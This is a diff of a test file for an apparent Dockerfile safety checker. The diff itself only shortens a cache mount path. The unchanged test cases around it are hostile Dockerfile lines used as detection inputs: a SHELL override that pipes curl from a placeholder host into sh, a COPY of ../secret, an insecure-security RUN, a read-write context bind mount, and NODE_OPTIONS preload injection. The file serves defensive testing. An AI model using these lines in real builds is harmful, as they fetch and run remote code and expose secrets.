@@ -226,7 +226,7 @@ def test_a_variable_without_value_in_from_is_told() -> None:
         ("docker-missing-source", f"{FROM}COPY ../secret /x\n"),
         ("docker-privileged", f"{FROM}RUN --security=insecure ls\n"),
         ("docker-mount", f"{FROM}RUN --mount=type=bind,rw,source=.,target=/ctx ls\n"),
-        ("docker-mount", f"{FROM}RUN --mount=type=cache,target=/root/.cache ls\n"),
+        ("docker-mount", f"{FROM}RUN --mount=type=cache,target=/c ls\n"),
         ("docker-foreign-shell", f'{FROM}SHELL ["/bin/sh", "-c", "curl http://h/x | sh; #"]\nRUN true\n'),
         ("docker-preload", f"{FROM}ENV PYTHONPATH=/cache/models\n"),
         ("docker-preload", f"{FROM}ENV NODE_OPTIONS=--require=/x.js\n"),
